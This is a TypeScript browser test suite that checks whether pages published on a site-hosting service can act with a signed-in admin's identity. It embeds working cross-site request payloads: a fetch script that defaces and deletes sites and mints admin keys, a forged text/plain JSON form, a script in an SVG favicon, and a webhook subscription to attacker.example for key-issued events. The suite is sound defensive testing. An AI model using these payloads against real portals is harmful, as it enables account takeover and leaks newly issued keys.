/**
 * Spec §2 in a real browser: an attacker publishes pages with an ordinary publish key, a
 * signed-in admin (every request through the forward-auth proxy carries their identity,
 * as the proxy's cookie would) opens them in Chromium, and nothing changes on the control
 * plane. Next to the attacks, the service's own consent form still works in the browser.
 */
import { createHash, randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startService } from '../support/service.ts';
import { startAuthProxy, type AuthProxy } from './auth-proxy.ts';
import { chromiumAvailable, eventually, launch, newContext, page as html, publishOk } from './support.ts';

type Service = Awaited<ReturnType<typeof startService>>;

/** Every state-changing request a published page can send without a CORS preflight, all at once. */
const ATTACK_SCRIPT = `
const post = (path, init) => fetch(path, { method: 'POST', credentials: 'include', mode: 'no-cors', ...init }).catch(() => undefined);
const form = new FormData();
form.append('meta', JSON.stringify({ group: 'docs', slug: 'victim', title: 'Defaced' }));
form.append('index', new Blob(['<h1>defaced</h1>'], { type: 'text/html' }), 'index.html');
Promise.all([
  post(APEX + '/api/sites', { body: form }),
  post(APEX + '/api/keys', { body: new Blob([JSON.stringify({ name: 'pwned', admin: true })]) }),
  post(APEX + '/api/keys', { body: JSON.stringify({ name: 'pwned-text', admin: true }) }),
  post(APEX + '/api/sites/docs/victim/rollback'),
  post(APEX + '/api/sites/deleted/docs/trashed'),
  post(APEX + '/api/deploys', { body: JSON.stringify({ meta: { group: 'docs', slug: 'victim' }, files: { 'index.html': '0'.repeat(64) } }) }),
  fetch(APEX + '/api/sites/docs/victim', { method: 'DELETE', credentials: 'include' }).catch(() => undefined),
]).then(() => { document.title = 'attack sent'; });
`;

/** A classic form post (top-level navigation, no fetch at all) with a JSON-looking text/plain body. */
const FORM_ATTACK = (apex: string) =>
  `<form id="f" method="POST" action="${apex}/api/keys" enctype="text/plain"><input name='{"name":"pwned-form","admin":true,"x":"' value='"}'></form><script>document.getElementById('f').submit()</script>`;

/** A page that subscribes the attacker's URL to everything, as the signed-in admin: with a fetch and with a form. */
const WEBHOOK_ATTACK = (apex: string) => `
<form id="f" method="POST" action="${apex}/api/webhooks" enctype="text/plain" target="sink"><input name='{"url":"https://attacker.example/hook","events":["key.issued"],"x":"' value='"}'></form>
<iframe name="sink"></iframe>
<script>
fetch(${JSON.stringify(apex)} + '/api/webhooks', { method: 'POST', credentials: 'include', mode: 'no-cors',
  body: JSON.stringify({ url: 'https://attacker.example/all', events: ['site.published', 'key.issued', 'connection.granted'] }) })
  .catch(() => undefined)
  .then(() => { document.getElementById('f').submit(); document.title = 'hook sent'; });
</script>`;

const SVG_FAVICON = (apex: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${apex}/api/keys',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({name:'pwned-svg',admin:true})}).then(()=>{document.title='svg ran'})</script><circle r="4"/></svg>`;

describe.skipIf(!chromiumAvailable())('published pages cannot act with the signed-in admin', () => {
  let svc: Service;
  let browser: Browser;
  let ctx: BrowserContext;
  let page: Page;
  let proxy: AuthProxy; // everything the admin's browser sends goes through the forward-auth proxy
  let admin: string;
  let apex: string;
  const siteOrigin = (labels: string) => `http://${labels}.localhost:${new URL(proxy.url).port}`;

  const api = async (path: string, init: RequestInit = {}) =>
    fetch(new URL(path, svc.url), { ...init, headers: { Authorization: `Bearer ${admin}`, ...(init.headers ?? {}) } });
  const keyNames = async () => ((await (await api('/api/keys')).json()) as { keys: { name: string }[] }).keys.map((k) => k.name);
  const title = async (path: string) => {
    const res = await api(`/api/sites/${path}`);
    return res.ok ? ((await res.json()) as { title: string }).title : res.status;
  };

  beforeAll(async () => {
    [svc, browser] = await Promise.all([startService(), launch()]);
    proxy = await startAuthProxy(svc.url, 'admin');
    apex = proxy.url;
    admin = await svc.createKey(['--name', 'admin', '--admin']);
    // The attacker holds only a publish key on their own group.
    const attacker = await svc.createKey(['--name', 'attacker', '--grant', 'evil:publish']);
    await publishOk(svc.url, admin, { group: 'docs', slug: 'victim', title: 'Victim v1', files: { 'index.html': html('Victim', 'v1') } });
    await publishOk(svc.url, admin, { group: 'docs', slug: 'victim', title: 'Victim v2', files: { 'index.html': html('Victim', 'v2') } });
    await publishOk(svc.url, admin, { group: 'docs', slug: 'trashed', title: 'Trashed', files: { 'index.html': html('Trashed', '') } });
    expect((await api('/api/sites/docs/trashed', { method: 'DELETE' })).status).toBe(204);
    await publishOk(svc.url, attacker, { group: 'evil', slug: 'page', title: 'Free stuff', files: { 'index.html': html('Free stuff', '', `<script>const APEX = ${JSON.stringify(apex)};${ATTACK_SCRIPT}</script>`) } });
    await publishOk(svc.url, attacker, { group: 'evil', slug: 'form', title: 'Form', files: { 'index.html': FORM_ATTACK(apex) } });
    await publishOk(svc.url, attacker, { group: 'evil', slug: 'hook', title: 'Hook', files: { 'index.html': WEBHOOK_ATTACK(apex) } });
    await publishOk(svc.url, attacker, { group: 'evil', slug: 'frame', title: 'Frame', files: { 'index.html': `<iframe id="portal" src="${apex}/" width="800" height="600"></iframe>` } });
    await publishOk(svc.url, attacker, {
      group: 'evil',
      slug: 'icon',
      title: 'Icon',
      // The critical case: a type padded with spaces, on bytes that do not start with `<svg`.
      files: { 'index.html': `<link rel="icon" href="data:image/svg+xml  ;base64,${Buffer.from(`<!-- icon -->${SVG_FAVICON(apex)}`).toString('base64')}"><p>icon</p>` },
    });
    ctx = await newContext(browser);
    page = await ctx.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    await svc?.stop();
  });

  test('a page on evil.<base> cannot publish over a site, open a deploy, create keys, roll back, restore or unpublish', async () => {
    // The proxy signs every request in: the attack would succeed if the apex trusted it.
    const deploy = page.waitForResponse((r) => r.url() === `${apex}/api/deploys`);
    await page.goto(`${siteOrigin('page.evil')}/`);
    await page.waitForFunction(() => document.title === 'attack sent');
    // the portal's folder upload (a deploy on the management plane) is refused like every other write
    expect((await deploy).status()).toBe(403);
    expect(await title('docs/victim')).toBe('Victim v2');
    expect(await title('docs/trashed')).toBe(404);
    const names = await keyNames();
    expect(names).not.toContain('pwned');
    expect(names).not.toContain('pwned-text');
    const revisions = (await (await api('/api/sites/docs/victim/revisions')).json()) as { revisions: { current: boolean }[] };
    expect(revisions.revisions).toHaveLength(2);
  });

  test('a plain form post from a site page creates no key', async () => {
    const answer = page.waitForResponse((r) => r.url() === `${apex}/api/keys`);
    await page.goto(`${siteOrigin('form.evil')}/`);
    expect((await answer).status()).toBe(403);
    expect(await keyNames()).not.toContain('pwned-form');
  });

  test('a page on a site host cannot create a webhook as the signed-in admin', async () => {
    const answers: number[] = [];
    page.on('response', (r) => {
      if (r.url() === `${apex}/api/webhooks`) answers.push(r.status());
    });
    await page.goto(`${siteOrigin('hook.evil')}/`);
    await page.waitForFunction(() => document.title === 'hook sent');
    await eventually(() => answers.length).toBe(2);
    expect(answers).toEqual([403, 403]);
    const hooks = (await (await api('/api/webhooks')).json()) as { webhooks: unknown[] };
    expect(hooks.webhooks).toEqual([]);
    // The same request from the apex itself (the portal) is what works: the refusal is the guard, not the body.
    const own = await api('/api/webhooks', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ url: 'https://attacker.example/all', events: ['key.issued'] }) });
    expect(own.status).not.toBe(403);
  });

  test('the portal refuses to be framed by a site', async () => {
    await page.goto(`${siteOrigin('frame.evil')}/`, { waitUntil: 'load' });
    const frame = page.frames().find((f) => f !== page.mainFrame())!;
    // Chromium replaces a frame refused by frame-ancestors / X-Frame-Options with its error page
    // (under load it may commit that page a moment after the parent's load event).
    await eventually(() => frame.url()).toMatch(/^chrome-error:/);
    // The portal itself still renders when opened directly.
    await page.goto(`${apex}/`);
    expect(await page.locator('#topbar').count()).toBe(1);
  });

  test('an SVG favicon opened on the apex runs no script', async () => {
    const res = await page.goto(`${apex}/api/sites/evil/icon/favicon`);
    expect(res?.status()).toBe(200);
    await page.waitForTimeout(500);
    expect(await page.title()).not.toBe('svg ran');
    expect(await keyNames()).not.toContain('pwned-svg');
  });

  test('the portal itself still changes things: a key created in the UI', async () => {
    await page.goto(`${apex}/keys`);
    await page.getByLabel('Name', { exact: true }).fill('made-in-portal');
    await page.getByLabel('Applies to').selectOption('group');
    await page.getByLabel('Group (e.g. docs or team/docs)').fill('docs');
    await page.getByRole('button', { name: 'Create key' }).click();
    expect(await page.locator('#new-token').textContent()).toMatch(/^key_/);
    expect(await keyNames()).toContain('made-in-portal');
  });

  test('the consent form works in the browser and redirects to the registered URI with a code', async () => {
    const received = await callbackServer();
    try {
      const reg = await fetch(`${svc.url}/mcp/oauth/register`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ client_name: 'Browser Agent', redirect_uris: [received.url] }),
      });
      expect(reg.status).toBe(201);
      const { client_id } = (await reg.json()) as { client_id: string };
      const verifier = randomBytes(32).toString('base64url');
      const challenge = createHash('sha256').update(verifier).digest('base64url');
      const authorize = new URL(`${apex}/mcp/oauth/authorize`);
      for (const [k, v] of Object.entries({ client_id, redirect_uri: received.url, response_type: 'code', code_challenge: challenge, code_challenge_method: 'S256', state: 'st-1' })) authorize.searchParams.set(k, v);
      await page.goto(authorize.toString());
      await page.getByRole('button', { name: /approve|allow|connect/i }).first().click();
      const query = await received.next;
      expect(query.get('code')).toMatch(/\S/);
      expect(query.get('state')).toBe('st-1');
    } finally {
      await received.close();
    }
  });
});

/** A stand-in for an MCP client's loopback redirect URI: resolves with the query of the first request. */
async function callbackServer(): Promise<{ url: string; next: Promise<URLSearchParams>; close(): Promise<void> }> {
  let got!: (q: URLSearchParams) => void;
  const next = new Promise<URLSearchParams>((r) => (got = r));
  const server = http.createServer((req, res) => {
    got(new URL(req.url ?? '/', 'http://127.0.0.1').searchParams);
    res.end('ok');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/cb`,
    next,
    close: () => new Promise((r) => server.close(() => r())),
  };
}
